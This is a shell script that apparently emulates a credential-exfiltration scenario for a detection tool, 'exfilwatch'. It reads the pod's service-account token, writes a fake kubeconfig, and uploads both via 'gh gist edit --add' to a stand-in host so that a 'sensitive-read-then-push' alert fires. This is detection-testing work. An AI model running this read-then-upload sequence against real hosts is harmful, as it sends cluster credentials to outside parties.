#!/bin/sh
# Emulates scenario gh-gist-edit-kubeconfig (examples/scenarios/gh-gist-edit-kubeconfig.yaml):
# A kubeconfig and the pod's service-account token added to an existing secret gist with `gh gist edit ID --add FILE`.
#
# The script reads a fake kubeconfig and the pod's real service-account token (those reads are what exfilwatch
# flags) but adds a FAKE placeholder instead of the token: the token never leaves the pod. gh is authenticated
# by a fake token in its environment and reads no config of its own. gh speaks HTTPS to a GitHub (Enterprise)
# API only, so against the plain-HTTP forge-api stand-in it stops at its first API call (it fetches the gist
# before it reads the file to add); exfilwatch judges the push when `gh gist edit` starts after the reads.
# Point GH_HOST at a GitHub Enterprise test instance of your own to complete the edit. Safe version: fake
# kubeconfig and token, the in-namespace forge-api stand-in.
#
# Image: any image with gh (for example one built FROM alpine with `apk add github-cli`)
# Job: no — no official gh image: run it in an image of your own that has gh (README.md).
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need gh
: "${GH_HOST:=${EMU_FORGE_URL#*://}}"
export GH_HOST
emu_check_target "$GH_HOST"
emu_read_sa_token
work="$EMU_WORKDIR/gh-gist-edit-kubeconfig"
rm -rf "$work"
HOME="$work/home"
mkdir -p "$HOME/.kube"
cat >"$HOME/.kube/config" <<'EOF'
apiVersion: v1
kind: Config
clusters:
  - name: prod
    cluster:
      server: https://kubernetes.example.invalid
users:
  - name: admin
    user:
      token: FAKE-KUBECONFIG-TOKEN-FOR-EXFILWATCH-EMULATION-ONLY
contexts:
  - name: prod
    context: {cluster: prod, user: admin}
current-context: prod
EOF
chmod 600 "$HOME/.kube/config"
emu_log "wrote an obviously fake kubeconfig under $HOME"
printf 'FAKE-SERVICE-ACCOUNT-TOKEN-EXAMPLE\n' >"$work/t"
cat "$HOME/.kube/config" >/dev/null
gist=5f1c0e2d9a7b4c3e8f6a1b2c3d4e5f60
GH_ENTERPRISE_TOKEN=FAKE-EXAMPLE-TOKEN gh gist edit "$gist" --add "$HOME/.kube/config" ||
  emu_log "gh could not complete the edit against the stand-in (expected); the attempt is what exfilwatch judges"
GH_ENTERPRISE_TOKEN=FAKE-EXAMPLE-TOKEN gh gist edit "$gist" -a "$work/t" ||
  emu_log "gh could not complete the edit against the stand-in (expected); the attempt is what exfilwatch judges"
rm -rf "$work"
emu_expect sensitive-read-then-push high
